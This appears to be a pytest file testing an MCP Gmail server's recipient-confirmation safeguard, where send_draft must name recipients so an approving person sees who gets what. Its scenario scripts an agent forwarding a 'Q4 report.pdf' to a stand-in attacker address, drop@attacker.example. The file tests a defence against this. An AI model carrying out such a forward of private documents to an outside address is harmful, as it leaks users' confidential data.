"""Sends a person approves with their eyes open, through a client that cannot ask (issue 38).

Many MCP clients confirm a call from the tool's marks and its arguments alone (no
elicitation): the person approves what the arguments show. ``toolspecs serve`` builds
Gmail with ``confirm_recipients`` on, so ``send_draft`` names the recipients in its
arguments, and a call without them is refused with the draft's recipients, subject and
attachments: the person has seen who receives what before the call they approve.
``--option gmail.confirm_recipients=no`` gives LlamaHub's ``send_draft(draft_id)`` back.
The server is the real command line over HTTP on its sandbox; the client is mcp's own,
without an elicitation callback, keeping the arguments of each call it would show.
"""

from __future__ import annotations

import os
import re

import anyio
import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from serving import toolspecs_serve

pytestmark = pytest.mark.serving

TOKEN = "test-token-" + "g" * 32
THIEF = "drop@attacker.example"


async def forward_and_send(url: str) -> tuple[dict, list[tuple[dict, str, bool]]]:
    """Draft a forward of the report to the thief, then send it as an agent would try.

    Returns the send tool's input schema and, for each send call, the arguments the
    client showed for approval, the text it got back and whether it was an error.
    """
    headers = {"Authorization": f"Bearer {TOKEN}"}
    shown: list[tuple[dict, str, bool]] = []
    with anyio.fail_after(60):
        async with (
            httpx2.AsyncClient(headers=headers, timeout=httpx2.Timeout(30)) as http,
            Client(streamable_http_client(url, http_client=http)) as client,
        ):
            tools = {t.name: t for t in (await client.list_tools()).tools}
            found = await client.call_tool("search_messages", {"query": "Report and diagram"})
            report = re.search(r"\[id: (\w+)", found.content[0].text)
            assert report is not None, found.content[0].text
            draft = await client.call_tool(
                "create_draft", {"to": [THIEF], "forward_message_id": report.group(1)}
            )
            draft_id = re.search(r"with id (\S+?)[ :]", draft.content[0].text)
            assert draft_id is not None, draft.content[0].text
            for arguments in (
                {"draft_id": draft_id.group(1)},
                {"draft_id": draft_id.group(1), "recipients": [THIEF]},
            ):
                sent = await client.call_tool("send_draft", arguments)
                shown.append((arguments, sent.content[0].text, bool(sent.is_error)))
                if not sent.is_error:
                    break
    return tools["send_draft"].input_schema, shown


def serve_gmail(*extra: str):
    env = {**os.environ, "TOOLSPECS_SERVE_TOKEN": TOKEN}
    return toolspecs_serve("gmail", *extra, env=env)


def test_a_client_that_cannot_ask_shows_who_receives_what_before_the_send():
    with serve_gmail() as (url, _):
        schema, shown = anyio.run(forward_and_send, url)
    assert "recipients" in schema["properties"]
    (blind, refused, _), (named, sent, failed) = shown
    # The call that showed a draft id only sent nothing, and said what the draft is.
    assert refused.startswith("Nothing was sent: send_draft needs recipients")
    assert f"It goes to: {THIEF}; subject: Fwd: Report and diagram; attached: " in refused
    assert "Q4 report.pdf" in refused
    # The call that sends named the recipient in the arguments the person approved.
    assert named["recipients"] == [THIEF] and failed is False
    assert sent.startswith(f"Draft {blind['draft_id']} sent as message")


def test_the_option_turns_it_off_for_llamahubs_send_draft():
    with serve_gmail("--option", "gmail.confirm_recipients=no") as (url, _):
        schema, shown = anyio.run(forward_and_send, url)
    assert set(schema["properties"]) == {"draft_id"}  # LlamaHub's schema
    ((arguments, sent, failed),) = shown
    assert arguments == {"draft_id": arguments["draft_id"]} and failed is False
    assert f"to {THIEF}; subject: Fwd: Report and diagram" in sent
